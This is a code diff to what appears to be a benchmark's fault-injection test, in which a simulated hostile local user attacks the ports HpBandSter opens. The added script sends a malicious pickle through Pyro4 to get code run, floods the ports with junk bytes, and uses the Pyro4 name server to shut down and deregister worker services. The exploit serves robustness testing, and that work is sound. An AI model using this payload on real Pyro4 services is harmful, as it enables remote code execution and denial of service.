@@ -1,7 +1,6 @@
 """Text that is made to mislead, and other users of the machine."""
 
 import pickle
-import socket
 import subprocess
 import sys
 from collections.abc import Callable, Mapping
@@ -11,7 +10,6 @@ from pathlib import Path
 from benchmarks.faults.stage import Call, Observed, Stage
 from benchmarks.faults.stores import change
 from benchmarks.faults.toys import HOSTILE
-from benchmarks.kills.scene import wait_until
 
 
 def _harmless(*calls: Call) -> str:
@@ -61,40 +59,47 @@ class _Payload:
         return open, (str(self._path), "w")
 
 
-_SENT_AS_PYRO = """
-import sys, socket, Pyro4.message, Pyro4.util
-data, ports = open(sys.argv[1], "rb").read(), map(int, sys.argv[2:])
+_ATTACK = """
+import sys, socket, Pyro4, Pyro4.message, Pyro4.util
+from contextlib import suppress
+data, ports = open(sys.argv[1], "rb").read(), list(map(int, sys.argv[2:]))
+Pyro4.config.COMMTIMEOUT = 2
 number = Pyro4.util.get_serializer("pickle").serializer_id
 for port in ports:
-    try:
-        with socket.create_connection(("127.0.0.1", port), 2) as connection:
-            message = Pyro4.message.Message(Pyro4.message.MSG_CONNECT, data, number, 0, 0)
-            connection.sendall(message.to_bytes())
-            connection.settimeout(2)
-            connection.recv(1000)
-    except OSError:
-        pass
+    with suppress(OSError), socket.create_connection(("127.0.0.1", port), 2) as connection:
+        message = Pyro4.message.Message(Pyro4.message.MSG_CONNECT, data, number, 0, 0)
+        connection.sendall(message.to_bytes())
+        connection.settimeout(2)
+        connection.recv(1000)
+    with suppress(OSError), socket.create_connection(("127.0.0.1", port), 2) as connection:
+        connection.sendall(bytes([255]) * 4096)
+    with suppress(Exception):
+        names = Pyro4.locateNS("127.0.0.1", port)
+        for name, place in names.list().items():
+            if "worker" in name:
+                with suppress(Exception):
+                    Pyro4.Proxy(place).shutdown()
+                names.remove(name)
+                print(name)
 """
 
 
 def _at_a_socket(stage: Stage) -> Observed:
-    """Another user sends what Pyro4 would unpickle, and noise, to every port that HpBandSter opens."""
+    """Another user of the machine, at every port that HpBandSter opens: what would be unpickled, noise, and commands."""
     payload, owned = stage.root / "payload", stage.root / "owned"
     payload.write_bytes(pickle.dumps(_Payload(owned)))
     file = stage.file("epochs", "hpbandster-bohb", 120, problems=["kills/epochs"], unit="fidelity")
     with stage.under_way(file):
-        wait_until(lambda: _ports(stage), 3)
         ports = _ports(stage)
-        subprocess.run(
-            [sys.executable, "-W", "ignore", "-c", _SENT_AS_PYRO, str(payload), *map(str, ports)],
-            capture_output=True,
-            check=False,
-        )
-        for port in ports:
-            with suppress(OSError), socket.create_connection(("127.0.0.1", port), 2) as connection:
-                connection.sendall(b"\xff" * 4096)
-    ran = "the attacker's code runs" if owned.exists() else "the attacker's code does not run"
-    return stage.observed(stage.ended(), shown=f"{'some' if ports else 'no'} TCP ports are open; {ran}")
+        command = [sys.executable, "-W", "ignore", "-c", _ATTACK, str(payload), *map(str, ports)]
+        obeyed = subprocess.run(command, capture_output=True, text=True, check=False).stdout.strip()
+    said = [
+        "TCP ports are open" if ports else "no TCP port is open",
+        "code of the attacker runs" if owned.exists() else "no code of the attacker runs",
+        "a worker obeys" if obeyed else "nobody obeys",
+    ]
+    call = stage.ended()
+    return stage.observed(call, shown="; ".join([*said, *stage.reasons()]))
 
 
 def _ports(stage: Stage) -> list[int]:
@@ -108,9 +113,9 @@ def _ports(stage: Stage) -> list[int]:
     for table in ("tcp", "tcp6"):
         for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
             cells = line.split()
-            _, local, _, state, inode = cells[0], cells[1], cells[2], cells[3], cells[9]
-            if state == "0A" and f"socket:[{inode}]" in inodes:
-                found.append(int(local.rpartition(":")[2], 16))
+            listens, inode = cells[3] == "0A", cells[9]
+            if listens and f"socket:[{inode}]" in inodes:
+                found.append(int(cells[1].rpartition(":")[2], 16))
     return sorted(set(found))
 
 
